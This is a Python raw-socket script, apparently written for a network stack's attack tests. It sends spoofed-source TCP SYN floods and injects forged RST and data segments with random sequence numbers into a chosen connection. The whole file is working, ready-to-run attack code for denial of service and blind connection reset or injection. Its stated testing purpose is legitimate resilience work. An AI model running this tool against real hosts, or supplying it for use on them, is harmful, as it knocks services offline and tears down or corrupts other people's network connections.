#!/usr/bin/env python3
"""Hostile TCP traffic from a raw socket (root; stdlib only), for Morgana's attack tests.

  synflood DST PORT COUNT            COUNT SYNs from spoofed sources 10.200.0.0/16 with random ports
  inject SRC DST SPORT DPORT COUNT   COUNT RSTs and COUNT data segments with random sequence and
                                     acknowledgement numbers on the flow SRC:SPORT -> DST:DPORT
Prints "sent N".
"""
import os, random, socket, struct, sys

def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def packet(src, dst, sport, dport, seq, ack, flags, payload=b"", opts=b""):
    off = (20 + len(opts)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, off << 4, flags, 65535, 0, 0) + opts + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    c = csum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.getrandbits(16), 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp

def main():
    a = sys.argv[1:]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sent = 0
    if a[0] == "synflood":
        dst, port, count = a[1], int(a[2]), int(a[3])
        mss = b"\x02\x04\x05\xb4"
        for i in range(count):
            src = "10.200.%d.%d" % (random.randrange(256), random.randrange(1, 255))
            s.sendto(packet(src, dst, random.randrange(1024, 65535), port, random.getrandbits(32), 0, 0x02, opts=mss), (dst, 0))
            sent += 1
    elif a[0] == "inject":
        src, dst, sport, dport, count = a[1], a[2], int(a[3]), int(a[4]), int(a[5])
        for i in range(count):
            s.sendto(packet(src, dst, sport, dport, random.getrandbits(32), 0, 0x04), (dst, 0))
            s.sendto(packet(src, dst, sport, dport, random.getrandbits(32), random.getrandbits(32), 0x18, b"EVIL" * 64), (dst, 0))
            sent += 2
    print("sent", sent)

main()
